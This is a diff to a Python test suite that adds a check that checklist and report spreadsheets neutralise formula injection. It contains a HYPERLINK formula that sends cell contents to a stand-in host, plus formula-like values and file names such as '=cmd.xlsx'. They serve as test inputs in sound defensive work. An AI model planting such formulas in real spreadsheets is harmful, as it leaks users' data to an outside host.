@@ -11,8 +11,7 @@ from __future__ import annotations
 
 import datetime
 import json
-import os
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 from pathlib import Path
 
 import jsonschema
@@ -25,7 +24,7 @@ from generator.errors import Problems
 from generator.sources import SourceText
 from generator.yamlfile import LocatedDict, LocatedList, parse_yaml
 
-from .conftest import CHAPTER, POLICY, ROOT, SOURCE
+from .conftest import BASE_FILES, CHAPTER, POLICY, ROOT, SOURCE
 
 CH = "content/miyako/obligations/01-password.yaml"
 POL = "content/miyako/policy.yaml"
@@ -457,3 +456,49 @@ def test_clause_numbers_of_article_numbered_rules(clause, found):
 def test_clause_numbers_of_the_real_sources(policy_id, clause, found):
     source = SourceText.read(ROOT / "content" / policy_id / "source.txt")
     assert source.has_clause(clause) is found
+
+
+# --- spreadsheets: nothing a spreadsheet would run ---------------------------------------------------
+
+HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"クリック")'
+
+
+def test_checklists_and_the_collected_report_write_formula_like_values_as_text(project):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from generator.collect import collect, write_report
+    from generator.content import load_content
+    from generator.renderers.checklists import checklist_csv, checklist_xlsx
+
+    root = project({
+        CH: CHAPTER.replace("summary: パスワードを他人に知られないようにする", f"summary: '{HOSTILE}'"),
+        "content/topics.yaml": BASE_FILES["content/topics.yaml"].replace("name: パスワード", "name: \"-2+3\""),
+    })
+    content = load_content(root)
+    policy = content.policy("miyako")
+    wb = load_workbook(io.BytesIO(checklist_xlsx(content, policy, "staff")))
+    ws = wb["チェックリスト"]
+    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    for value in (HOSTILE, "-2+3"):
+        assert (cells[value].data_type, cells[value].quotePrefix) == ("s", True)
+    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    rows = list(csv.reader(io.StringIO(checklist_csv(content, policy, "staff").decode("utf-8-sig"))))
+    assert "'" + HOSTILE in rows[1] + rows[2] and "'-2+3" in rows[1]
+    assert not [v for row in rows for v in row if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+    for name, unit in (("=cmd.xlsx", "=1+2"), ("@SUM(1).xlsx", None)):  # 所属 typed in, or taken from the file name
+        ws["C5"] = unit
+        if unit:
+            ws["C5"].data_type = "s"
+        wb.save(root / name)
+    result = collect(content, [root / "=cmd.xlsx", root / "@SUM(1).xlsx"])
+    assert list(result.rejected) == []
+    [report] = [p for p in write_report(result, root / "reports", root) if p.suffix == ".xlsx"]
+    units = load_workbook(report)["所属別"]
+    values = {c.value: c for row in units.iter_rows() for c in row}
+    for value in ("=1+2", "=cmd.xlsx", "@SUM(1)", "@SUM(1).xlsx"):
+        assert (values[value].data_type, values[value].quotePrefix) == ("s", True)
+    assert not [c.coordinate for row in units.iter_rows() for c in row if c.data_type == "f"]
